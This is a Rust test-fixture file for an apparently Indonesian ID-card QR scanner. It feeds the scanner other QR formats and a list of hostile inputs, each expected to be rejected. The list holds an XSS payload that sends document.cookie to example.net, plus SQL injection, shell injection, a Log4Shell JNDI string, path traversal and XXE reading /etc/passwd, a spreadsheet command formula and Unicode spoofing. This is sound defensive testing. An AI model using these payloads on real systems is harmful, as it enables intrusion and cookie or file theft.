//! What other codes in the world say, and what attackers write into one.

use crate::{Case, Shown};

const CERTIFICATE: &str = "HC1:6BFOXN%TS3DH0YOJ58S S-W5HDC *M0II5XHC9B5G2+$N IOP-IA%NFQGRJPC%OQHIZC4.OI1RM8ZA.A5:S9MKN4NN3F85QNCY0O%0VZ001HOC9JU0D0HT0HB2PL/IB*09B9LW4T*8+DCMH0LDK2%K";

/// Other QR worlds: none of ours, however well known.
const WORLDS: &[(&str, &str)] = &[
    ("EU health certificate", CERTIFICATE),
    ("EU health certificate, cut", "HC1:"),
    ("SMART health card", "shc:/567629595326546034602925407728043360287028647167452228092863336"),
    ("web address", "https://kampung.example/masuk?id=1"),
    ("web address with a port and a fragment", "http://192.168.1.1:8080/admin#x"),
    ("web address without a scheme", "bit.ly/3xyzABC"),
    ("web address of a bank, almost", "https://bri.co.id.example.net/login"),
    ("the ministry's link, almost", "https://dukcapil.kemendagri.go.id.example.net/Terpusat/Pindai?id=1"),
    ("the ministry's link with a user", "https://layanan.dukcapil.kemendagri.go.id@example.net/"),
    ("WiFi", "WIFI:T:WPA;S=Kelurahan;P:rahasia123;;"),
    ("vCard", "BEGIN:VCARD\nVERSION:3.0\nN:Contoh;Siti\nEND:VCARD"),
    ("MECARD", "MECARD:N:Contoh,Siti;TEL:0351000000;;"),
    ("calendar", "BEGIN:VEVENT\nSUMMARY:Rapat\nEND:VEVENT"),
    ("mail", "mailto:loket@example.id?subject=KTP"),
    ("telephone", "tel:+62351000000"),
    ("message", "SMSTO:+62351000000:daftar"),
    ("chat", "https://wa.me/62351000000?text=halo"),
    ("place", "geo:-7.6298,111.5239"),
    ("one-time password", "otpauth://totp/loket?secret=JBSWY3DPEHPK3PXP"),
    ("payment, QRIS", "00020101021126570011ID.DANA.WWW011893600915300000000002090000000005303360540510000"),
    ("payment, Bitcoin", "bitcoin:1BoatSLRHtKNngkdXEeobR76b53LETtpyT?amount=1"),
    ("payment, SEPA", "BCD\n002\n1\nSCT\n\nContoh\nDE00000000000000000000"),
    (
        "OpenID4VP request of another",
        "openid4vp://?client_id=x509_hash%3Aabc&request_uri=https%3A%2F%2Fexample.net%2Fr",
    ),
    (
        "HAIP request of another",
        "haip-vp://?client_id=x509_hash%3Aabc&request_uri=https%3A%2F%2Fexample.net%2Fr",
    ),
    ("EUDI request", "eudi-openid4vp://example.net?client_id=a&request_uri=https%3A%2F%2Fexample.net"),
    ("credential offer", "openid-credential-offer://?credential_offer_uri=https%3A%2F%2Fexample.net%2Fo"),
    ("mobile driving licence", "mdoc:owBjMS4wAYIB2BhYS6QBAiABIVgg"),
    ("did", "did:web:dukcapil.example#credential-1"),
    ("SIWE", "example.com wants you to sign in with your Ethereum account:"),
    ("boarding pass", "M1CONTOH/SITI         EABC123 SUBCGKGA 0321 045Y012A0023 100"),
    ("goods", "8991002101234"),
    ("goods, GS1 link", "https://id.gs1.org/01/09506000134352/10/ABC"),
    ("Matter device", "MT:Y.K9042C00KA0648G00"),
    (
        "FIDO cross device",
        "FIDO:/13086400838107303667332719012595115747821895775708323189557153075146383351399743589971313508078026948312026786722471666005727649643501784024544726574771401798171307406596245",
    ),
    ("BSSN signature sheet", "tte.kominfo.go.id/verifyPDF/abc"),
    ("NIK in the clear", "3577016101900001"),
    ("KTP in words", "NIK 3577016101900001 NAMA SITI CONTOH"),
];

/// What is written to do harm where it is shown, logged or stored.
const HARMFUL: &[(&str, &str)] = &[
    ("markup: script", "<script>fetch('https://example.net/'+document.cookie)</script>"),
    ("markup: picture", "<img src=x onerror=alert(1)>"),
    ("markup: vector picture", "<svg onload=alert(1)><a xlink:href=\"javascript:alert(1)\">x</a></svg>"),
    ("markup: frame", "<iframe src=\"https://example.net\"></iframe>"),
    ("markup: link", "<a href=\"https://example.net\">Klik di sini</a>"),
    ("markup: closing", "</textarea></title></script><b>tebal</b>"),
    ("markup: entities", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("markup: template", "{{constructor.constructor('alert(1)')()}}"),
    ("markup: page's own template", "{@html '<b>x</b>'}"),
    ("link: script", "javascript:alert(document.domain)"),
    ("link: data", "data:text/html,<script>alert(1)</script>"),
    ("link: file", "file:///etc/passwd"),
    ("link: program", "intent://scan/#Intent;scheme=zxing;package=com.example;end"),
    ("link: shell", "ms-msdt:/id PCWDiagnostic"),
    ("query language", "'; DROP TABLE requests; --"),
    ("query language, always true", "\" OR 1=1 --"),
    ("spreadsheet", "=HYPERLINK(\"https://example.net\",\"klik\")"),
    ("spreadsheet, command", "=cmd|'/c calc'!A0"),
    ("shell", "$(reboot) `reboot` ; reboot"),
    ("log library", "${jndi:ldap://example.net/a}"),
    ("format", "%s%s%s%n%x"),
    ("path", "../../../../etc/passwd"),
    ("path, encoded", "..%2f..%2f..%2fetc%2fpasswd"),
    ("header", "x\r\nSet-Cookie: a=b\r\n\r\n<b>"),
    ("terminal", "\u{1b}[2J\u{1b}[31mDITERIMA\u{1b}[0m"),
    ("terminal title", "\u{1b}]0;DITERIMA\u{7}"),
    ("control characters", "\u{1}\u{2}\u{3}\u{4}\u{5}\u{6}\u{7}\u{8}\u{e}\u{f}"),
    ("zero", "DITERIMA\0DITOLAK"),
    ("delete", "\u{7f}\u{80}\u{9f}"),
    ("right to left", "\u{202e}HALAS\u{202c} \u{2066}DITERIMA\u{2069}"),
    ("no width", "D\u{200b}I\u{200d}T\u{2060}E\u{feff}R\u{ad}IMA"),
    ("letters that look alike", "\u{0414}IT\u{0415}RIM\u{0410}"),
    (
        "marks upon marks",
        "D\u{335}\u{335}\u{335}\u{335}\u{335}\u{335}\u{335}\u{335}\u{335}I\u{489}\u{489}\u{489}T",
    ),
    ("private letters", "\u{e000}\u{f8ff}\u{10ffff}"),
    ("no character", "\u{fffe}\u{ffff}\u{fdd0}"),
    ("replacement", "\u{fffd}\u{fffd}\u{fffd}\u{fffd}"),
    ("tags", "\u{e0001}\u{e0041}\u{e0042}\u{e007f}"),
    ("line and paragraph separators", "satu\u{2028}dua\u{2029}tiga\u{85}empat"),
    ("pictures", "\u{1f1ee}\u{1f1e9}\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}"),
    ("the word for accepted", "DITERIMA: Kartu sah."),
    (
        "a report of ours",
        r#"{"decision":"accepted","code":"accepted","colour":"green","facts":{"nama":"BUDI"}}"#,
    ),
    ("JSON with a member twice", r#"{"a":1,"a":2}"#),
    ("a huge number", "1e999999999"),
    ("prototype", r#"{"__proto__":{"decision":"accepted"}}"#),
    ("entities in XML", "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x>&a;</x>"),
    ("a JWT", "eyJhbGciOiJub25lIn0.eyJkZWNpc2lvbiI6ImFjY2VwdGVkIn0."),
    ("an SD-JWT in the clear", "eyJhbGciOiJFUzI1NiJ9.e30.AAAA~WyJzIiwibmFtYSIsIkJVREkiXQ~"),
];

pub(crate) fn cases() -> Vec<Case> {
    let one = |name: &str, code, text: String| {
        Case::new(name, code, move |_| Shown::Texts(text.split('\n').map(str::to_owned).collect()))
    };
    let mut cases: Vec<Case> = WORLDS
        .iter()
        .chain(HARMFUL)
        .map(|(name, text)| one(name, "frame-not-ours", (*text).to_owned()))
        .collect();
    for (name, link) in [
        ("the ministry's link", "https://layananonline.dukcapil.kemendagri.go.id/Terpusat/Pindai?id=1"),
        ("the ministry's link, capitals and blanks", "  HTTPS://LAYANAN.DUKCAPIL.KEMENDAGRI.GO.ID/X  "),
        ("the ministry's link, without TLS", "http://tte.dukcapil.kemendagri.go.id/cek/abc"),
        ("the ministry's link with markup", "https://a.dukcapil.kemendagri.go.id/<script>alert(1)</script>"),
    ] {
        cases.push(one(name, "answer-printed-document", link.to_owned()));
    }
    cases.extend([
        Case::new("no code", "answer-nothing", |_| Shown::Texts(vec![])),
        Case::new("an empty code", "answer-nothing", |_| Shown::Texts(vec![String::new()])),
        Case::new("blanks", "answer-nothing", |_| {
            Shown::Texts(vec!["  \t ".to_owned(), "\u{a0}\u{3000}".to_owned()])
        }),
        Case::new("five thousand codes", "answer-too-many-lines", |_| {
            Shown::Texts(vec!["HALO DUNIA".to_owned(); 5_000])
        }),
        one("deep JSON", "frame-too-long", "[".repeat(100_000)),
        one("deep objects", "frame-too-long", "{\"a\":".repeat(50_000)),
        // Longer than any code: a pasted text.
        Case {
            at_page: "web-too-large",
            ..one("a megabyte of letters", "frame-too-long", "A".repeat(1 << 20))
        },
        Case {
            at_page: "web-too-large",
            ..one("a megabyte of marks", "frame-too-long", "\u{335}".repeat(1 << 19))
        },
    ]);
    cases
}
